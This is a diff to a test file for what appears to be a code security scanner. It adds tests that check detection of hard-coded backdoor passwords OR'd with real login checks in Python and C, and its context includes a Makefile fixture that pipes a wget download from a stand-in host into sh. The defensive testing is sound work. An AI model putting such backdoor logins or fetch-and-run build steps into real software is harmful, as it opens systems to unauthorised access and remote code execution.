@@ -110,3 +110,27 @@ def test_download_in_a_helper_make_target_is_medium_in_the_build_it_is_critical(
     (tmp_path / "Makefile").write_text("all: prog\n\nprog: prog.c\n\twget -qO- https://tools.example/i.sh | sh\n")
     got = analyse_directory(tmp_path).findings
     assert [(f.rule, f.severity.value) for f in got] == [("source.build-fetch-exec", "critical")]
+
+
+def test_master_password_through_a_constant_and_an_or():
+    src = ('BREAKGLASS = "heron-lake-31"\n\n'
+           'def check_login(user, password):\n'
+           '    return password == BREAKGLASS or verify_password(user, password)\n')
+    got = findings("auth.py", "python", src)
+    assert [(f.rule, f.evidence["literal"]) for f in got] == [("source.master-password", "heron-lake-31")]
+
+
+def test_master_password_in_or_condition_c():
+    src = ('int check(const char *user, const char *pass) {\n'
+           '  if (strcmp(pass, "Kx!93-mq") == 0 || pam_authenticate(h, 0) == 0) { return 1; }\n'
+           '  return 0; }\n')
+    got = findings("login.c", "c", src)
+    assert [f.rule for f in got] == ["source.master-password"]
+
+
+def test_key_from_request_data_is_a_credential():
+    src = ('def login(request):\n    data = request.json()\n'
+           '    if data.get("password") == "otter-pass-2":\n        return start_session(data.get("user"))\n'
+           '    if not check_password(data.get("user"), data.get("password")):\n        return None\n')
+    got = findings("views.py", "python", src)
+    assert [f.rule for f in got] == ["source.master-password"]
